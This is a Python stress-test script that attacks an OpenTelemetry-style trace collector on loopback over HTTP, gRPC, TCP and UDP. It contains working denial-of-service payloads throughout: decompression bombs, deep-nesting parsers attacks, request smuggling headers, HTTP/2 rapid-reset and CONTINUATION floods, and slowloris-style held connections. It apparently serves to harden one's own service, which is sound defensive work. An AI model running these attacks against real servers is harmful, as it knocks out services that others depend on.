"""Attacks a collector on loopback, as a hostile client would: attacker.py ATTACK,... SECONDS NAME=HOST:PORT...

NAME is http, grpc, tcp or udp. Repeats each attack for so long, one after another, on four threads, and prints a line for
each with how often it was made. attacker.py --list names the attacks, and "all" is all of them. Only Python's own library is used.
"""

import gzip
import secrets
import socket
import struct
import sys
import threading
import time

THREADS = 4


# Protobuf


def varint(number):
    out = bytearray()
    while number >= 0x80:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    out.append(number)
    return bytes(out)


def field(number, content):
    return varint(number << 3 | 2) + varint(len(content)) + content


def fixed64(number, value):
    return varint(number << 3 | 1) + struct.pack("<Q", value)


def attribute(key, value):
    return field(9, field(1, key) + field(2, field(1, value)))


def span(extra=b"", trace=b"\xaa" * 16, identity=b"\xbb" * 8, start=None, end=None, name=b"attack"):
    now = time.time_ns()
    start = now if start is None else start
    end = now if end is None else end
    return field(1, trace) + field(2, identity) + field(5, name) + fixed64(7, start) + fixed64(8, end) + extra


def request(*spans):
    resource = field(1, field(1, field(1, b"service.name") + field(2, field(1, b"attacker"))))
    return field(1, resource + field(2, b"".join(field(2, one) for one in spans)))


def nested(depth):
    value = b""
    for _ in range(depth):
        value = field(5, field(1, value))
    return request(span(field(9, field(1, b"deep") + field(2, value))))


# Ways in


def connect(address):
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=10)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def drain(connection, limit=1 << 20):
    """Reads what comes until the peer is done, or for a moment."""
    connection.settimeout(0.3)
    got = b""
    try:
        while len(got) < limit:
            part = connection.recv(65536)
            if not part:
                break
            got += part
            if b"\r\n\r\n" in got:
                break
    except OSError:
        pass
    return got


def raw(address, data, wait=True):
    try:
        with connect(address) as connection:
            connection.sendall(data)
            return drain(connection) if wait else b""
    except OSError:
        return b""


def post(doors, body, headers=(), kind="application/x-protobuf"):
    head = f"POST /v1/traces HTTP/1.1\r\nHost: spoor\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
    head += "".join(f"{line}\r\n" for line in headers)
    return raw(doors["http"], (head + "\r\n").encode() + body)


def frame(doors, body, length=None):
    return raw(doors["tcp"], struct.pack(">I", len(body) if length is None else length) + body)


def datagram(doors, body):
    host, port = doors["udp"].rsplit(":", 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(body, (host, int(port)))


# HTTP/2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION, DATA = 1, 3, 4, 6, 9, 0


def h2(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def export_head():
    path = b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"
    return b"\x83\x86" + b"".join(
        literal(name, value)
        for name, value in [
            (b":path", path),
            (b":authority", b"spoor"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
    )


def h2_send(doors, frames):
    return raw(doors["grpc"], PREFACE + h2(SETTINGS, 0, 0) + frames)


# Attacks. Each makes one attempt.


def gzip_bomb(doors):
    post(doors, GZIP_BOMB, ["Content-Encoding: gzip"])


def zstd_bomb(doors):
    post(doors, ZSTD_BOMB, ["Content-Encoding: zstd"])


def grpc_bomb(doors):
    message = b"\x01" + struct.pack(">I", len(ZSTD_BOMB)) + ZSTD_BOMB
    head = export_head() + literal(b"grpc-encoding", b"zstd")
    h2_send(doors, h2(HEADERS, 4, 1, head) + h2(DATA, 1, 1, message))


def deep_nesting(doors):
    body = DEEP
    post(doors, body)
    frame(doors, body)


def deep_json(doors):
    post(doors, b'{"resourceSpans":' + b"[" * 100_000, kind="application/json")
    post(doors, b'{"a":' * 50_000, kind="application/json")


def quadratic_merge(doors):
    post(doors, MERGE)


def repeated_spans(doors):
    """Good spans, as many as a request may have, that compress to nearly nothing; and one more, so that none is the same."""
    post(doors, REPEATED + gzip.compress(request(span(identity=secrets.token_bytes(8)))), ["Content-Encoding: gzip"])


def empty_spans(doors):
    post(doors, EMPTY)


def large_values(doors):
    post(doors, request(span(attribute(b"large", b"x" * (1 << 20)))))


def many_attributes(doors):
    post(doors, request(span(MANY)))


def invalid_text(doors):
    post(doors, request(span(attribute(b"\xff\xfe", b"\xc3\x28" * 100), name=b"\xff\x00\xfe")))


def bad_ids(doors):
    post(doors, request(span(trace=b""), span(trace=b"\0" * 16), span(identity=b"\1"), span(identity=b"\0" * 8)))


def odd_times(doors):
    far = (1 << 64) - 1
    post(doors, request(span(start=0, end=0), span(start=far, end=far), span(start=far, end=1), span(start=1, end=far)))


def smuggling(doors):
    for lines in [
        "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
        "Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
        "Transfer-Encoding: xchunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\nabc",
        "Content-Length: -1\r\n\r\n",
        "Content-Length : 3\r\n\r\nabc",
    ]:
        head = "POST /v1/traces HTTP/1.1\r\nHost: spoor\r\nContent-Type: application/x-protobuf\r\n"
        raw(doors["http"], (head + lines).encode())


def large_headers(doors):
    raw(doors["http"], b"POST /v1/traces HTTP/1.1\r\nX: " + b"x" * 1_000_000)
    raw(doors["http"], b"POST /v1/traces HTTP/1.1\r\n" + b"A: b\r\n" * 50_000)


def rapid_reset(doors):
    head = export_head()
    frames = b"".join(
        h2(HEADERS, 4, stream, head) + h2(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in range(1, 4001, 2)
    )
    h2_send(doors, frames)


def continuation_flood(doors):
    frames = h2(HEADERS, 0, 1, export_head())
    frames += h2(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 20) * 2000
    h2_send(doors, frames)


def control_flood(doors):
    h2_send(doors, h2(PING, 0, 0, b"12345678") * 20_000)
    h2_send(doors, h2(SETTINGS, 0, 0) * 20_000)


def half_open(doors):
    held = []
    try:
        for _ in range(50):
            one = connect(doors["http"])
            one.sendall(b"POST /v1/traces HTTP/1.1\r\nHost: spoor\r\nContent-Type: application/x-protobuf\r\n")
            held.append(one)
            two = connect(doors["tcp"])
            two.sendall(struct.pack(">I", 1 << 20) + b"x")
            held.append(two)
            three = connect(doors["grpc"])
            three.sendall(PREFACE + h2(SETTINGS, 0, 0) + h2(HEADERS, 4, 1, export_head()))
            held.append(three)
        for _ in range(10):
            for one in held:
                try:
                    one.sendall(b"x")
                except OSError:
                    pass
            time.sleep(0.1)
    except OSError:
        pass
    finally:
        for one in held:
            one.close()


def resets(doors):
    """Leaves with a RST while more is unread than one read takes, so that the collector finds out by writing."""
    body = request(span()) * 2000
    beginnings = {
        "http": b"POST /v1/traces HTTP/1.1\r\nContent-Type: application/x-protobuf\r\nContent-Length: 9\r\n\r\n" + b"x" * 9,
        "tcp": struct.pack(">I", 3) + b"\xff" * 3,
        "grpc": PREFACE + h2(SETTINGS, 0, 0) + h2(PING, 0, 0, b"12345678") * 100,
    }
    for name, beginning in beginnings.items():
        for wait in (0, 0.0002, 0.001, 0.005):
            try:
                with connect(doors[name]) as connection:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                    connection.sendall(beginning + (beginning * 20 if name != "grpc" else b"") + body)
                    time.sleep(wait)
            except OSError:
                pass


def odd_datagrams(doors):
    for body in (b"", b"x", b"\xff" * 65_507, b"\0" * 1400, request(span())[:-3]):
        datagram(doors, body)


def odd_frames(doors):
    for length in (0, 1, 0xFFFFFFFF, 100):
        frame(doors, b"x", length)
    frame(doors, b"\xff" * 1000)


def tiny_requests(doors):
    """As fast as they go, on one connection, without reading the answers."""
    body = request(span())
    head = f"POST /v1/traces HTTP/1.1\r\nContent-Type: application/x-protobuf\r\nContent-Length: {len(body)}\r\n\r\n"
    raw(doors["http"], (head.encode() + body) * 500)
    raw(doors["tcp"], (struct.pack(">I", len(body)) + body) * 500)


def flood(doors):
    """Many large requests at once: bytes rather than tricks."""
    body = FLOOD
    frame(doors, body)
    post(doors, body)


GZIP_BOMB = gzip.compress(b"\0" * (80 << 20), 6)
# A frame of zstd: no checksum, a window of 8 MiB, then blocks of one byte repeated 128 KiB times.
ZSTD_BOMB = (
    b"\x28\xb5\x2f\xfd\x00\x68" + b"".join(struct.pack("<I", 128 << 10 << 3 | 2)[:3] + b"\0" for _ in range(1024))
) + b"\x01\x00\x00"
REPEATED = gzip.compress(request(*[span()] * 131_071), 6)
DEEP = nested(3000)
MERGE = field(1, field(1, field(1, field(1, b"service.name"))) * 50_000)
EMPTY = field(1, field(2, b"\x12\x00" * 1_000_000))
MANY = b"".join(attribute(b"key.%d" % number, b"value") for number in range(10_000))
FLOOD = request(*[span(attribute(b"filler", b"x" * 300))] * 5000)

ATTACKS = {
    function.__name__.replace("_", "-"): function
    for function in [
        gzip_bomb, zstd_bomb, grpc_bomb, repeated_spans, deep_nesting, deep_json, quadratic_merge, empty_spans, large_values,
        many_attributes, invalid_text, bad_ids, odd_times, smuggling, large_headers, rapid_reset, continuation_flood,
        control_flood, half_open, resets, odd_datagrams, odd_frames, tiny_requests, flood,
    ]
}


def main():
    if sys.argv[1:] == ["--list"]:
        print("\n".join(ATTACKS))
        return
    names = list(ATTACKS) if sys.argv[1] == "all" else sys.argv[1].split(",")
    doors = dict(word.split("=", 1) for word in sys.argv[3:])
    for name in names:
        print(f"{name}: {repeat(ATTACKS[name], float(sys.argv[2]), doors)} times", flush=True)


def repeat(attack, seconds, doors):
    """How often it was made; every thread makes it once at least."""
    end = time.monotonic() + seconds
    counts = [0] * THREADS

    def work(number):
        while counts[number] == 0 or time.monotonic() < end:
            attack(doors)
            counts[number] += 1

    threads = [threading.Thread(target=work, args=(number,)) for number in range(THREADS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(counts)


if __name__ == "__main__":
    main()
